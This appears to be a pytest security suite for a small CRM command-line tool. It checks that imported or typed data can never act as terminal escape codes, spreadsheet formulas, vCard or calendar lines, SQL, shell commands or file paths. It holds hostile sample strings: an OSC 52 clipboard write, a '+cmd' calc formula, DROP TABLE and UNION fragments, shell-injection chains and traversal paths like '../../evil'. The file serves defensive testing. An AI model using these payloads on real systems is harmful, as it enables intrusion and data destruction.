"""What others wrote is only ever text: whatever way it came in and goes out, it is no order, no formula, no SQL, no path."""

from __future__ import annotations

import contextlib
import csv
import fcntl
import io
import json
import os
import pty
import re
import select
import shutil
import sqlite3
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path
from typing import Any

import pytest
from pty_screen import STYLE, on_terminal

from smallcrm.cli import commands
from smallcrm.cli.app import load

# Writes the clipboard, links, clears, colours by one C1 octet, turns the line round, hides, is markup.
EVIL = "Eve\x1b]52;c;ZXZpbA==\x07\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\\x1b[2J\x9b31m\u202egnp\u200b\u2066[/red][@click=app.quit]q[/]"
MARKUP = "[/red][@click=app.quit]q[/]"
EVE = "eve@eve.example"
ORDERS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
READING = (
    ("contact", "list"), ("show", EVE), ("note", "list"), ("job", "list"), ("appointment", "list"), ("reminder", "list"), ("today",), ("next",),
    ("agenda",), ("find", "eve"), ("history",), ("history", "--change", "1"), ("contact", "dossier", EVE), ("contact", "duplicates"),
    ("calendar", "list"), ("calendar", "export"), ("export", "contacts"), ("export", "contacts", "-f", "vcf"), ("reminder", "due"),
    ("reminder", "notify"), ("email", "--query", "eve"), ("show", "nobody\x1b]52;c;eA==\x07"), ("restore", "--list"),
    ("--complete-words", "fish", "show", "e"), ("--complete-words", "zsh", "contact", "list", "--tag", ""),
)  # fmt: skip


def escaped(text: str) -> str:
    """A value of a card or calendar."""
    return text.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")


def by_card(crm: Any) -> None:
    value = escaped(EVIL)
    lines = (
        "BEGIN:VCARD", "VERSION:3.0", f"UID:{EVIL}", f"FN:{value}", f"N:{value};{value};;;", f"EMAIL:{EVE}", f"ORG:{value};{value}",
        f"TITLE:{value}", f"NOTE:{value}", f"ADR:;;{value};{value};;;", f"URL:https://{value}", f"CATEGORIES:{value}", f"X-ODD;X-P={value}:{value}",
        "item1.TEL:07700900142", f"item1.X-ABLabel:{value}", f"TEL;TYPE={value}:{value}", f"IMPP:{value}:x", f"BDAY:{value}", "END:VCARD",
    )  # fmt: skip
    bring(crm, "eve.vcf", "\r\n".join(lines))


def by_calendar(crm: Any) -> None:
    value = escaped(EVIL)
    crm.ok("contact", "add", "Eve", "--email", EVE)
    lines = (
        "BEGIN:VCALENDAR", "VERSION:2.0", f"NAME:{value}", "BEGIN:VEVENT", f"UID:{EVIL}", "DTSTART:20260914T140000Z", "DURATION:PT1H", f"SUMMARY:{value}",
        f"LOCATION:{value}", f"DESCRIPTION:{value}", f'ATTENDEE;CN="{value}":mailto:{EVE}', f"X-ODD:{value}", f"RRULE:{value}", "END:VEVENT",
        "BEGIN:VTODO", f"UID:t{EVIL}", f"SUMMARY:{value}", "DUE:20260914T090000Z", "END:VTODO", "END:VCALENDAR",
    )  # fmt: skip
    bring(crm, "eve.ics", "\r\n".join(lines))


def by_sheet(crm: Any) -> None:
    names = ["Email", "Name", "Company", "Job Title", "Notes", "Tags", "Street", "City", "Website", "Phone", "Birthday", EVIL]  # fmt: skip
    table = io.StringIO()
    csv.writer(table).writerows([names, [EVE, *[EVIL] * (len(names) - 1)]])
    bring(crm, "eve.csv", table.getvalue())


def by_book(crm: Any) -> None:
    columns = (
        "name",
        "name_key",
        "prefix",
        "department",
        "role",
        "about",
        "source",
        "nickname",
        "stage",
        "prefers",
    )
    book = {
        "contact": [{"id": 1, "uid": EVIL, "kind": "person", **dict.fromkeys(columns, EVIL)}],
        "email": [{"id": 1, "uid": "e", "contact_id": 1, "value": EVE, "key": EVE, "label": EVIL}],
        "phone": [{"id": 1, "uid": "p", "contact_id": 1, "value": EVIL, "national": EVIL, "raw": EVIL, "label": EVIL}],
        "photo": [{"id": 1, "uid": "o", "contact_id": 1, "data": EVIL}],
        "custom_field": [{"id": 1, "uid": "f", "contact_id": 1, "name": EVIL, "value": EVIL}],
        "note": [{"id": 1, "uid": "n", "at": "2026-09-14T07:00:00Z", "channel": "note", "body": EVIL}],
        "note_contact": [{"id": 1, "uid": "nc", "note_id": 1, "contact_id": 1, "role": EVIL}],
        "reminder": [{"id": 1, "uid": "r", "text": EVIL, "due": "2026-09-14", "timezone": "Europe/London", "due_utc": "2026-09-14T08:00:00Z", "contact_id": 1}],
        "property": [
            {"id": 1, "uid": "v", "subject_uid": EVIL, "format": "vcard", "line": f"X-EVIL:{EVIL}"},
            {"id": 2, "uid": "i", "subject_uid": "r", "format": "ics", "line": f"X-EVIL:{EVIL}"},
        ],
        "provenance": [{"id": 1, "uid": "w", "subject_uid": EVIL, "source": EVIL, "at": "2026-09-14T07:00:00Z"}],
    }  # fmt: skip
    bring(crm, "eve.json", json.dumps({"format": "smallcrm book", "version": 1, **book}))


def by_python(crm: Any) -> None:
    import smallcrm
    from smallcrm.store import tables

    with smallcrm.session() as session:
        eve = tables.Contact(name=EVIL, about=EVIL, role=EVIL, department=EVIL, source=EVIL)
        session.add(eve)
        session.flush()
        session.add(tables.Email(contact_id=eve.id, value=EVE, label=EVIL))
        session.add(tables.CustomField(contact_id=eve.id, name=EVIL, value=EVIL))
        session.add(tables.Reminder(text=EVIL, due="2026-09-14", timezone="Europe/London", contact_id=eve.id))
        session.commit()


def by_argument(crm: Any) -> None:
    ways = ("--email", EVE, "--about", EVIL, "--company", EVIL, "--tag", EVIL, "--set", f"{EVIL}={EVIL}")
    crm.ok("contact", "add", *ways, "--", EVIL)
    add_things(crm)
    # What holds orders can be no name of a calendar; markup can.
    assert crm("calendar", "publish", crm.folder / f"a{EVIL.replace('/', '')}.ics").code == 2
    crm.ok("calendar", "publish", crm.folder / "[red][@click=app.quit].ics")


def add_things(crm: Any) -> None:
    crm.ok("reminder", "add", EVIL, "--due", "today", "--contact", EVE)
    crm.ok("appt", "add", EVE, EVIL, "--at", "today 15:00", "--location", EVIL)
    crm.ok("job", "add", EVE, EVIL, "--site", EVIL, "--description", EVIL)
    crm.ok("log", EVE, EVIL)


def bring(crm: Any, name: str, text: str) -> None:
    (crm.folder / name).write_bytes(text.encode())
    done = crm("import", crm.folder / name)
    assert done.code == 0, done.err
    assert ORDERS.search(done.out + done.err) is None


WAYS_IN = (by_argument, by_sheet, by_card, by_calendar, by_book, by_python)


def orders(shown: str, allowed: str = "") -> list[str]:
    """What of it a terminal could take for an order, in its surroundings."""
    plain = STYLE.sub("", shown)
    return [
        plain[max(0, at.start() - 20) : at.end() + 20]
        for at in ORDERS.finditer(plain)
        if at.group() not in allowed
    ]


@pytest.mark.parametrize("way", WAYS_IN, ids=lambda way: way.__name__)
def test_what_came_in_is_no_order_to_a_terminal(crm, way) -> None:
    way(crm)
    told = dict(zip(READING, on_terminal(READING, columns=200), strict=True))
    # A bell of ours goes with a reminder.
    assert {
        line: found for line, (_, text) in told.items() if (found := orders(text.replace("\a", "", 1), "\t"))
    } == {}
    assert [line for line, (_, text) in told.items() if "inside" in text] == []
    assert any(MARKUP in STYLE.sub("", text).replace("\n", "") for _, text in told.values())


# The dashboard.

# What Textual itself sends: modes, places, styles, its questions, and the window's title.
OURS = re.compile(
    r"\x1b\[[0-9;:?<>=!$ ]*[A-Za-z~]|\x1b[=>78]|\x1b\](?:0|22);[^\x07\x1b]*(?:\x07|\x1b\\)|\x1bP=[^\x1b]*\x1b\\"
)


def on_dashboard(keys: str) -> str:
    """All that the dashboard sends its terminal while these keys are pressed."""
    pid, master = pty.fork()
    if not pid:
        os.environ.update(TERM="xterm-256color", COLORTERM="truecolor")
        os.execv(sys.executable, [sys.executable, "-m", "smallcrm"])
    fcntl.ioctl(master, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 160, 0, 0))
    found = b"".join(read(master, until=b"Eve"))
    for key in (*keys, "\x1bqq\x03"):
        with contextlib.suppress(OSError):
            os.write(master, key.encode())
        found += b"".join(read(master))
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, 9)
    os.waitpid(pid, 0)
    os.close(master)
    return found.decode("utf-8", "replace")


def read(master: int, until: bytes = b"") -> Any:
    """What comes until it is still for a while; before it has said ``until`` it is waited for."""
    found, end = b"", time.monotonic() + 30
    while time.monotonic() < end:
        patience = 0.35 if until in found else 30
        if not select.select([master], [], [], patience)[0]:
            return
        try:
            piece = os.read(master, 65536)
        except OSError:
            return
        found += piece
        yield piece


def test_what_came_in_is_no_order_to_the_dashboards_terminal(crm) -> None:
    by_sheet(crm)
    add_things(crm)
    shown = OURS.sub("", on_dashboard("2\r\x1b3\r\x1b456"))
    assert orders(shown, "\r\n\t\x0f") == []
    assert "Eve␛]52;c;" in shown
    assert "[@click=app.quit]" in shown


# Spreadsheets.

FORMULAS = (
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("https://evil.example?"&A1)', "＝1", "＋1", "－1+1", "＠SUM(1)", "%0A=1",
)  # fmt: skip


def test_no_cell_of_any_export_is_a_formula(crm) -> None:
    lay_formulas(crm)
    lines = [("export", f"{kind}s") for kind in ("contact", "note", "job", "appointment", "reminder")]
    lines += [(kind, "list", "-f", form) for kind in ("contact", "note", "job") for form in ("csv", "tsv")]
    for line in lines:
        table = csv.reader(
            io.StringIO(crm.ok(*line).out, newline=""), delimiter="\t" if "tsv" in line else ","
        )
        cells = [cell for row in table for cell in row]
        assert [
            cell for cell in cells if cell[:1] in set("=@\t\r＝＋－＠") or re.match(r"[+-](?![\d (])", cell)
        ] == [], line
        assert any("1+1" in cell for cell in cells), line


def lay_formulas(crm: Any) -> None:
    for number, formula in enumerate(FORMULAS):
        ways = ("--about", formula, "--company", formula, "--set", f"K{number}={formula}", "--tag", formula, "--source", formula)  # fmt: skip
        made = crm.ok("contact", "add", *ways, "--", f"A{number}").id
        crm.ok("contact", "edit", made, "--name", formula)
        crm.ok("note", "add", made, "--", formula)
        crm.ok("job", "add", made, "--site", formula, "--description", formula, "--", formula)
        crm.ok("appt", "add", made, "--at", "today 15:00", "--location", formula, "--", formula)
        crm.ok("reminder", "add", "--due", "today", "--contact", made, "--", formula)
    # The name of a field is a column's.
    crm.ok("contact", "edit", "1", "--set", "@SUM(1)=x", "--set", "+cmd|' /C calc'!A0=x")


# Lines of cards and calendars.

BREAKS = ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\\n", "\r\n ", "\x1e")


def with_lines(end: str) -> str:
    """A text that would end a card or an event, and begin another."""
    return end.join(("Eve", "END:VCARD", "END:VEVENT", "BEGIN:VCARD", "FN:Mallory", "X-EVIL:1"))


def checked(feed: str, begin: str, count: int) -> None:
    assert len(re.findall(rf"(?m)^BEGIN:{begin}\r?$", feed)) == count
    assert len(re.findall(rf"(?m)^END:{begin}\r?$", feed)) == count
    # Splitlines also ends a line where a program that knows Unicode does.
    assert [line for line in feed.splitlines() if line.startswith(("FN:Mallory", "X-EVIL"))] == []


def test_nothing_begins_a_line_in_a_card_or_calendar(crm) -> None:
    for number, end in enumerate(BREAKS):
        text = with_lines(end)
        ways = (
            "--about", text, "--company", "Ltd", "--tag", text, "--set", f"K{number}={text}", "--role", text, "--handle", f"x=a{number}{text}",
            "--source", text,
        )  # fmt: skip
        made = crm.ok("contact", "add", *ways, "--address", text, "--", text).id
        crm.ok("appt", "add", made, text, "--at", "today 15:00", "--location", text, "--remind", "1h")
        crm.ok("reminder", "add", text, "--due", "today", "--contact", made)
    crm.ok("contact", "add", "--kind", "organisation", "--", with_lines("\n"))
    for version in ("3.0", "4.0"):
        cards = crm.ok("export", "contacts", "-f", "vcf", "--vcard-version", version).out
        checked(cards, "VCARD", len(BREAKS) + 2)
    feed = crm.ok("calendar", "export", "--name", "x\r\nX-EVIL:1").out
    checked(feed, "VEVENT", len(BREAKS))
    checked(feed, "VCARD", 0)


def test_no_property_kept_from_elsewhere_begins_a_line_of_its_own(crm) -> None:
    """A book made by hand can say of a property what no card or calendar could."""
    made = crm.ok("contact", "add", "Eve", "--email", EVE).id
    crm.ok("appt", "add", made, "Service", "--at", "today 15:00")
    book = crm.ok("export", "all").json
    subjects = {"vcard": book["contact"][0]["uid"], "ics": book["appointment"][0]["uid"]}
    lines = [
        head + with_lines(end) for end in BREAKS for head in ("X-ODD:", "X-ODD;P=", "BEGIN:X-A", "X-ODD")
    ]
    book["property"] = [
        {"uid": f"{form}{number}", "format": form, "subject_uid": uid, "line": line}
        for form, uid in subjects.items()
        for number, line in enumerate(lines)
    ]
    bring(crm, "book.json", json.dumps(book))
    cards, feed = crm.ok("export", "contacts", "-f", "vcf").out, crm.ok("calendar", "export").out
    assert "X-ODD" in cards
    assert "X-ODD" in feed
    checked(cards, "VCARD", 1)
    checked(feed, "VEVENT", 1)
    checked(feed, "VCARD", 0)


# SQL.

FRAGMENTS = (
    "'; DROP TABLE contact; --", '" OR 1=1 --', "1; DELETE FROM contact", "name) UNION SELECT sql FROM sqlite_master --", "x' || (SELECT group_concat(value) FROM email) || '",
    "name = 'x'; DROP TABLE contact", "id IN (SELECT id FROM contact)", "name ~ '%' OR 1 = 1", "updated_at; --", "name COLLATE NOCASE", "* NEAR(a b)", 'name:"x', "{name}", "%s%n", "?1", ":id", "\\",
)  # fmt: skip
# These ask for nothing of the store, or have a store of their own.
APART = {("demo",), ("completion",), ("tui",), ("config", "edit"), ("calendar", "serve"), ("reminder", "install")}  # fmt: skip


def leaves() -> list[tuple[str, ...]]:
    found: list[tuple[str, ...]] = []
    for name, (module, _) in commands.COMMANDS.items():
        group = module.removeprefix("group:")
        found += [(name, sub) for sub in commands.GROUPS[group][2]] if group != module else [(name,)]
    return [path for path in found if path not in APART]


def lines_with(fragment: str, path: tuple[str, ...]) -> list[list[str]]:
    """A line for each place where the command takes a text, with the fragment in it."""
    table = (
        commands.COMMANDS if len(path) == 1 else commands.GROUPS[commands.ALIASES.get(path[0], path[0])][2]
    )
    takes = [
        each for each in load(path[-1], table[path[-1]][0]).params if not getattr(each, "is_flag", False)
    ]
    needed = ["1" for each in takes if each.param_type_name == "argument" and each.required]
    options = [
        each.opts[-1]
        for each in takes
        if each.param_type_name == "option" and each.name not in ("output", "rejects", "salvage")
    ]
    places = [[*path, *needed[:place], fragment, *needed[place + 1 :]] for place in range(len(needed) or 1)]
    return [*places, *([*path, *needed, option, fragment] for option in options)]


def as_rows(db: Path) -> dict[str, int]:
    with contextlib.closing(sqlite3.connect(db)) as connection:
        return {
            table: connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
            for table in ("contact", "email", "note", "job", "sqlite_master")
        }


def tried(crm: Any, lines: list[list[str]], monkeypatch: pytest.MonkeyPatch) -> None:
    crm.ok("contact", "add", "Maya", "--email", "secret@maya.example")
    crm.ok("note", "add", "1", "rang")
    crm.ok("job", "add", "1", "Boiler")
    work = crm.folder / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.setenv("PATH", "")
    laid, rows = crm.db.read_bytes(), as_rows(crm.db)
    for line in lines:
        done = crm(*line)
        assert done.code in {0, 1, 2, 3, 4, 5, 6}, (line, done)
        assert "inside" not in done.err, (line, done.err)
        assert "refused that" not in done.err, (line, done.err)
        assert "CREATE TABLE" not in done.out + done.err, line
        if crm.db.read_bytes() != laid:
            now = as_rows(crm.db)
            assert now["sqlite_master"] == rows["sqlite_master"], line
            if not {"remove", "merge", "erase"} & set(line):
                assert all(now[table] >= rows[table] for table in rows), (line, now)
            crm.db.write_bytes(laid)


def test_no_argument_is_sql(crm, monkeypatch) -> None:
    """A fourth of all places of all commands, with one fragment after the other; at length each with each."""
    lines = [line for path in leaves() for line in lines_with("", path)]
    assert len(lines) > 200
    tried(
        crm,
        [[word or FRAGMENTS[at % len(FRAGMENTS)] for word in line] for at, line in enumerate(lines)][::4],
        monkeypatch,
    )


@pytest.mark.long
@pytest.mark.parametrize("fragment", FRAGMENTS)
def test_no_argument_is_sql_at_length(crm, monkeypatch, fragment: str) -> None:
    tried(crm, [line for path in leaves() for line in lines_with(fragment, path)], monkeypatch)


def test_a_condition_and_an_order_give_away_nothing(crm) -> None:
    crm.ok("contact", "add", "Maya", "--email", "secret@maya.example", "--set", "Boiler' OR 1 --=x")
    crm.ok("contact", "add", "Tom")
    for condition in (
        "name = 'x' OR 1=1", 'name = "\' OR 1=1 --"', "(SELECT 1) = 1", "name = 'x'; SELECT 1", "1 = 1", "Boiler' OR 1 -- = y",
        "name ~ \"%' OR '1'='1\"",
    ):  # fmt: skip
        done = crm("contact", "list", "--where", condition, "-f", "ids")
        assert (done.code, done.out) in {(0, ""), (2, "")}, (condition, done)
    for order in ("name; DROP TABLE contact", "(SELECT value FROM email)", "random()", "id DESC", "name, (SELECT 1)"):  # fmt: skip
        assert crm("contact", "list", "--sort", order).code == 2
    assert crm.ok("contact", "list", "--where", '"Boiler\' OR 1 --" = x', "-f", "ids").out == "1\n"


# Programs and files.


def test_the_editor_the_pager_and_what_opens_links_are_run_without_a_shell(
    crm, tmp_path, monkeypatch
) -> None:
    tools, marks = tmp_path / "tools", tmp_path / "marks"
    tools.mkdir()
    for name in ("xdg-open", "edit"):
        (tools / name).write_text(
            f'#!/bin/sh\nfor word in "$@"; do echo "$word" >> {tmp_path}/given-{name}; done\n'
        )
        (tools / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:{os.environ['PATH']}")
    touch = f"touch {marks}"
    evil = f"x; {touch} #$({touch})`{touch}`|{touch}&"
    crm.ok("contact", "add", f"Eve {evil}", "--address", f"1 {evil}")
    crm.ok("contact", "edit", "1", "--url", f"https://x.example/{evil}", "--handle", f"x={evil}")
    # No command takes such a number, but a book made by hand can hold one.
    book = crm.ok("export", "all").json
    book["phone"] = [{"uid": "p", "contact_id": 1, "value": f"+44{evil}"}]
    bring(crm, "book.json", json.dumps(book))
    for line in (("address", "1", "--open"), ("phone", "1", "--open")):
        crm.ok(*line)
    env = {"EDITOR": f"edit '{evil}'", "PAGER": f"cat; {touch}; $({touch})"}
    lines = [("contact", "edit", "1"), ("note", "add", "1"), ("contact", "list"), ("show", "1")]
    on_terminal(lines, env=env, rows=3)
    assert not marks.exists()
    assert evil in (tmp_path / "given-edit").read_text()
    opened = (tmp_path / "given-xdg-open").read_text().splitlines()
    assert len(opened) == 2
    assert all(re.match(r"https://www\.openstreetmap\.org/|tel:\+", link) for link in opened), opened


UIDS = ("../../evil", "..", ".", "/etc/evil", "a/b", "a\\b", "CON", "x" * 300, "a\nb", ".hidden", "-rf", "\x1b[31m")  # fmt: skip


@pytest.mark.parametrize("uid", UIDS)
def test_no_name_of_a_file_leads_out_of_its_folder(crm, uid: str) -> None:
    for name, lines in {
        "e.ics": ("BEGIN:VCALENDAR", "VERSION:2.0", "BEGIN:VEVENT", f"UID:{uid}", "DTSTART:20260914T140000Z", "SUMMARY:x", "END:VEVENT", "END:VCALENDAR"),
        "e.vcf": ("BEGIN:VCARD", "VERSION:3.0", f"UID:{uid}", "FN:Eve", "END:VCARD"),
    }.items():  # fmt: skip
        (crm.folder / name).write_text("\r\n".join(lines))
        assert crm("import", crm.folder / name).code == 0, name
    deep = crm.folder / "a" / "b" / "c"
    deep.mkdir(parents=True)
    before = {path for path in crm.folder.rglob("*") if deep not in path.parents}
    crm.ok("calendar", "sync", deep)
    made = [path for path in deep.rglob("*") if path.is_file() and path.suffix in (".ics", ".vcf")]
    assert made
    assert all(re.fullmatch(r"[\w@+][\w@.+-]*", path.name) and len(path.name.encode()) < 200 for path in made)
    assert {
        path for path in crm.folder.rglob("*") if deep not in path.parents and "book.db" not in path.name
    } <= before


# The current folder.

MARK = "import pathlib; pathlib.Path({!r}).write_text(__name__)\n"
MODULES = (
    "json", "sqlite3", "typer", "smallcrm", "textual", "icalendar", "dateutil", "sitecustomize", "usercustomize", "readline",
)  # fmt: skip


def test_nothing_in_the_current_folder_is_read_or_run(crm, tmp_path, monkeypatch) -> None:
    here, mark = tmp_path / "here", tmp_path / "ran"
    here.mkdir()
    for name in MODULES:
        (here / f"{name}.py").write_text(MARK.format(str(mark)))
    for name in ("config.toml", "smallcrm.toml", ".env", "pyproject.toml", ".smallcrmrc"):
        (here / name).write_text('region = "DE"\ncurrency = "EUR"\neditor = "evil"\nSMALLCRM_DB=evil.db\n')
    for name in ("smallcrm.db", "book.db", "python", "less", "nano", "xdg-open", "cat"):
        (here / name).write_text(f"#!/bin/sh\ntouch {mark}\n")
        (here / name).chmod(0o755)
    before = {path.name: path.read_bytes() for path in here.iterdir()}
    script = shutil.which("smallcrm", path=str(Path(sys.executable).parent))
    assert script is not None
    # Where settings and store are by default, so that others that lie here would be taken for them.
    for name in ("SMALLCRM_DB", "SMALLCRM_CONFIG", "XDG_CONFIG_HOME", "XDG_DATA_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    for line in (
        ("contact", "add", "Maya", "--phone", "07700900142"), ("show", "maya"), ("today",), ("config", "get", "currency"),
        ("phone", "maya", "--open"), ("calendar", "export"),
    ):  # fmt: skip
        done = subprocess.run(
            [script, *line], cwd=here, capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL
        )
        assert done.returncode == (1 if "--open" in line else 0), done.stderr
        if line[0] == "config":
            assert done.stdout.strip() == "GBP"
    assert not mark.exists()
    assert {path.name: path.read_bytes() for path in here.iterdir()} == before
